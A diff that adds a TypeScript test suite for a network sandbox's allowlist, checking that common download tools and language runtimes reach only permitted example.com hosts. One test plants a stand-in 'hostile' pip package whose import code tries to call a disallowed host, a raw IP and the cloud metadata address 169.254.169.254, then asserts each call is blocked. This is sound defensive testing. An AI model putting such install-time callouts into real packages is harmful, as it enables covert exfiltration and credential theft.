@@ -1,0 +1,197 @@
+import { mkdtempSync, readFileSync, rmSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
+import { codeImageTar, codeImageTimeoutMs } from "./code-image.ts";
+import { caInside, type Ground, type NetworkSandbox, startGround } from "./ground.ts";
+import { cannotReach } from "./internet.ts";
+import { serveGit, serveNpm, servePip } from "./packages.ts";
+import { apiAddress, otherAddress } from "./row.ts";
+
+const reason = cannotReach();
+const packageAddress = "203.0.113.31";
+const image = "network-code:latest";
+
+interface Program {
+  readonly name: string;
+  /** Looked for in the image. */
+  readonly program: string;
+  /** Reaches api.example.com, or what is said, and prints `done`. */
+  readonly script: string;
+  /** The same for other.example.com, which isn't allowed. */
+  readonly refused?: string;
+  /** Server name that the far end must have heard. */
+  readonly sni: string;
+}
+
+const python = (url: string) =>
+  `python3 -c 'import urllib.request; print(urllib.request.urlopen("${url}", timeout=20).read().decode())' && echo done`;
+const node = (url: string) =>
+  `node -e 'fetch("${url}").then((a) => a.text()).then((text) => console.log(text, "done"))'`;
+
+const programs: readonly Program[] = [
+  {
+    name: "curl",
+    program: "curl",
+    script: "curl -sSf -m 20 https://api.example.com/ && echo done",
+    refused: "curl -sSf -m 20 https://other.example.com/",
+    sni: "api.example.com",
+  },
+  {
+    name: "wget",
+    program: "wget",
+    script: "wget -q -T 20 -t 1 -O - https://api.example.com/ && echo done",
+    refused: "wget -q -T 20 -t 1 -O - https://other.example.com/",
+    sni: "api.example.com",
+  },
+  {
+    name: "git",
+    program: "git",
+    script: "rm -rf cloned && git clone -q https://git.example.com/project.git cloned && cat cloned/file && echo done",
+    refused: "git clone -q https://other.example.com/project.git elsewhere",
+    sni: "git.example.com",
+  },
+  {
+    name: "pip",
+    program: "pip",
+    script:
+      "python3 -m venv venv && venv/bin/pip install -q --disable-pip-version-check --index-url https://pypi.example.com/simple greeter && venv/bin/python -c 'import greeter' && echo done",
+    refused:
+      "venv/bin/pip install -q --retries 0 --disable-pip-version-check --index-url https://other.example.com/simple absent",
+    sni: "pypi.example.com",
+  },
+  {
+    name: "npm",
+    program: "npm",
+    script:
+      "mkdir -p node && cd node && npm install --silent --no-audit --no-fund --registry https://npm.example.com greeter && node -e 'require(\"greeter\")' && echo done",
+    refused: "mkdir -p node && cd node && npm view --fetch-retries 0 --registry https://other.example.com greeter",
+    sni: "npm.example.com",
+  },
+  {
+    name: "Python's urllib",
+    program: "python3",
+    script: python("https://api.example.com/"),
+    refused: python("https://other.example.com/"),
+    sni: "api.example.com",
+  },
+  {
+    name: "Node's fetch",
+    program: "node",
+    script: node("https://api.example.com/"),
+    refused: node("https://other.example.com/"),
+    sni: "api.example.com",
+  },
+];
+
+const trust = [
+  "SSL_CERT_FILE",
+  "CURL_CA_BUNDLE",
+  "GIT_SSL_CAINFO",
+  "PIP_CERT",
+  "REQUESTS_CA_BUNDLE",
+  "NODE_EXTRA_CA_CERTS",
+  "npm_config_cafile",
+];
+
+describe.skipIf(reason !== undefined)(`real programs${reason === undefined ? "" : ` (${reason})`}`, () => {
+  let ground: Ground;
+  let sandbox: NetworkSandbox;
+  let missing: string | undefined;
+  const folder = mkdtempSync(join(tmpdir(), "stacyvm-code-"));
+
+  beforeAll(async () => {
+    const found = await codeImageTar(folder);
+    if ("missing" in found) missing = found.missing;
+    ground = await startGround("tar" in found ? { images: { [image]: found.tar } } : {});
+    rmSync(folder, { recursive: true });
+    const www = join(ground.internet.directory, "www");
+    serveGit(www, "git.example.com", "project", "content of the repository\n");
+    servePip(www, "pypi.example.com", "greeter", "print('installed by pip')\n");
+    serveNpm(www, "npm.example.com", "greeter", "console.log('installed by npm')\n");
+    await ground.internet.say({
+      "api.example.com": { a: [apiAddress] },
+      "other.example.com": { a: [otherAddress] },
+      ...Object.fromEntries(["git", "pypi", "npm"].map((name) => [`${name}.example.com`, { a: [packageAddress] }])),
+    });
+    if (missing !== undefined) return;
+    sandbox = await ground.spawn(
+      { mode: "allowlist", allow: ["git", "pypi", "npm", "api"].map((name) => `${name}.example.com:443`) },
+      { image, memory_mb: 1024, env: Object.fromEntries(trust.map((name) => [name, caInside])) },
+    );
+    await sandbox.write(caInside, readFileSync(ground.internet.caFile, "utf8"));
+    // wget looks nowhere else.
+    await sandbox.sh(`cat ${caInside} >> /etc/ssl/certs/ca-certificates.crt`);
+  }, codeImageTimeoutMs);
+  beforeEach(() => ground.internet.forget());
+  afterAll(async () => {
+    await ground?.[Symbol.asyncDispose]();
+  });
+
+  test.for(programs)("$name gets what is allowed by TLS, and not what isn't", async (one, { skip }) => {
+    if (missing !== undefined) skip(missing);
+    const there = await sandbox.sh(`command -v ${one.program}`);
+    if (there.status !== 0) skip(`the image has no ${one.program}`);
+    const { status, stdout, stderr } = await sandbox.sh(one.script);
+    expect({ status, stdout, stderr }).toMatchObject({ status: 0, stdout: expect.stringContaining("done") });
+    const { connections } = await ground.internet.records();
+    expect(connections.length).toBeGreaterThan(0);
+    expect(new Set(connections.map(({ sni }) => sni))).toEqual(new Set([one.sni]));
+    expect(connections.flatMap(({ requests }) => requests).length).toBeGreaterThan(0);
+    if (one.refused === undefined) return;
+    await ground.internet.forget();
+    expect((await sandbox.sh(one.refused)).status).not.toBe(0);
+    const { packets, queries } = await ground.internet.records();
+    expect(packets.filter(({ destination_port }) => destination_port !== 53)).toEqual([]);
+    expect(queries.filter(({ name }) => name.startsWith("other"))).toEqual([]);
+  });
+
+  test("a static Go program gets what is allowed by TLS, and not what isn't", async () => {
+    await using plain = await ground.spawn({ mode: "allowlist", allow: ["api.example.com:443"] });
+    expect(await plain.probe.https("https://api.example.com/")).toMatchObject({ status: 200 });
+    expect(await plain.probe.https("https://other.example.com/")).toMatchObject({ connected: false });
+    expect((await ground.internet.records()).connections.map(({ sni }) => sni)).toEqual(["api.example.com"]);
+  });
+
+  test("an agent installs packages and calls one API, and what it installed calls nobody else", async ({ skip }) => {
+    if (missing !== undefined) skip(missing);
+    const www = join(ground.internet.directory, "www");
+    const hostile = [
+      "import urllib.request, os",
+      "for url in ('https://other.example.com/'+os.urandom(8).hex(), 'http://203.0.113.21/', 'http://169.254.169.254/'):",
+      "    try: urllib.request.urlopen(url, timeout=10); print('told', url)",
+      "    except Exception as error: print('kept', url)",
+      "",
+    ].join("\n");
+    servePip(www, "pypi.example.com", "telltale", hostile);
+    await using agent = await ground.spawn(
+      { mode: "allowlist", allow: ["pypi.example.com:443", "api.example.com:443"] },
+      { image, memory_mb: 1024, env: Object.fromEntries(trust.map((name) => [name, caInside])) },
+    );
+    await agent.write(caInside, readFileSync(ground.internet.caFile, "utf8"));
+    const installed = await agent.sh(
+      "python3 -m venv venv && venv/bin/pip install -q --disable-pip-version-check --index-url https://pypi.example.com/simple telltale",
+    );
+    expect(installed).toMatchObject({ status: 0 });
+    const called = await agent.sh(`venv/bin/${python("https://api.example.com/v1/answer")}`);
+    expect(called.stdout).toContain(`reached ${apiAddress}:443 as api.example.com`);
+    const imported = await agent.sh("venv/bin/python -c 'import telltale'");
+    expect(imported.stdout).not.toContain("told");
+    expect(imported.stdout.match(/kept/g)).toHaveLength(3);
+    const { connections, packets, queries } = await ground.internet.records();
+    expect(new Set(connections.map(({ at, sni }) => `${at} ${sni}`))).toEqual(
+      new Set([`${packageAddress}:443 pypi.example.com`, `${apiAddress}:443 api.example.com`]),
+    );
+    expect(new Set(queries.map(({ name }) => name))).toEqual(new Set(["pypi.example.com", "api.example.com"]));
+    expect(
+      packets.filter(
+        ({ destination, destination_port }) =>
+          destination_port !== 53 && ![packageAddress, apiAddress].includes(destination),
+      ),
+    ).toEqual([]);
+    const denied = (await agent.log()).filter(({ decision }) => decision === "denied");
+    expect(denied.map(({ host, address }) => host ?? address)).toEqual(
+      expect.arrayContaining(["other.example.com", otherAddress, "169.254.169.254"]),
+    );
+  });
+});
